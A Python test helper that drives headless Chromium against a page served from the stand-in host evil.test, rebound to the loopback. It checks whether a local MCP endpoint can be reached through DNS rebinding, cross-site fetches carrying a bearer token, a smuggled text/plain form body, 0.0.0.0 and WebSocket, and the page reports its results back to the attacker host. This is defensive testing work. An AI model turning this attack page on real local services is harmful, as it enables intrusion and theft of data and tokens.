"""A page of another site in a real browser, its name rebound to this machine, that tries a door on the loopback."""

import http.client
import http.server
import json
import queue
import shutil
import subprocess
import threading

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
PAGE = """<!doctype html><iframe name=f></iframe><script>
const { door, body, token } = CONFIG
const json = { "content-type": "application/json", accept: "application/json, text/event-stream" }
const bearer = { ...json, authorization: "Bearer " + token }
const asked = {
  "rebound get": ["/mcp"],
  "rebound get of all": ["/api/status"],
  "rebound post": ["/mcp", { method: "POST", headers: json, body }],
  "rebound post with the token": ["/mcp", { method: "POST", headers: bearer, body }],
  "rebound simple post": ["/mcp", { method: "POST", headers: { "content-type": "text/plain" }, body }],
  "cross-site with preflight": [door, { method: "POST", headers: bearer, body }],
  "cross-site simple post": [door, { method: "POST", body }],
  "cross-site without cors": [door, { method: "POST", mode: "no-cors", body }],
  "any address": [door.replace("127.0.0.1", "0.0.0.0"), { method: "POST", mode: "no-cors", body }],
  "cross-site get": [door, { mode: "no-cors" }],
}
const told = {}
async function all() {
  for (const [name, [url, how]] of Object.entries(asked)) {
    try {
      const answer = await fetch(url, how)
      told[name] = [answer.type, answer.status, await answer.text()]
    } catch (error) { told[name] = ["error", 0, String(error)] }
  }
  const form = document.body.appendChild(document.createElement("form"))
  Object.assign(form, { method: "post", action: door, enctype: "text/plain", target: "f" })
  Object.assign(form.appendChild(document.createElement("input")), { name: body.slice(0, -1), value: "}" })
  form.submit()
  new Image().src = door
  const socket = new WebSocket(door.replace("http", "ws"))
  told.socket = await new Promise((done) => { socket.onopen = () => done("open"); socket.onerror = () => done("no") })
  await fetch("/report", { method: "POST", body: JSON.stringify(told) })
}
all()
</script>"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """The page and its report are the attacker's; all else reaches the door, as it does once the name is rebound."""

    page = b""
    door = 0
    reports: "queue.Queue[bytes]"

    def do_GET(self):
        if self.path == "/":
            self._answer(200, "text/html", self.page)
        else:
            self._pass_on(b"")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        if self.path == "/report":
            self.reports.put(body)
            self._answer(200, "text/plain", b"")
        else:
            self._pass_on(body)

    def _pass_on(self, body):
        line = http.client.HTTPConnection("127.0.0.1", self.door, timeout=20)
        line.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            line.putheader(name, value)
        line.endheaders(body)
        answer = line.getresponse()
        self._answer(answer.status, answer.headers.get("content-type", "text/plain"), answer.read())

    def _answer(self, status, kind, body):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def tried(door, body, token, profile):
    """What a page gets that tries a door: for each way the kind of answer, its status and its text."""
    reports: queue.Queue[bytes] = queue.Queue()
    config = json.dumps({"door": f"http://127.0.0.1:{door}/mcp", "body": body.decode(), "token": token})
    members = {"page": PAGE.replace("CONFIG", config).encode(), "door": door, "reports": reports}
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Rebound", (Attacker,), members))
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]
    flags += [f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.test 127.0.0.1"]
    page = f"http://evil.test:{attacker.server_address[1]}/"
    browser = subprocess.Popen([CHROMIUM, *flags, page], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        return json.loads(reports.get(timeout=90))
    finally:
        browser.terminate()
        browser.wait(20)
        attacker.shutdown()
        attacker.server_close()
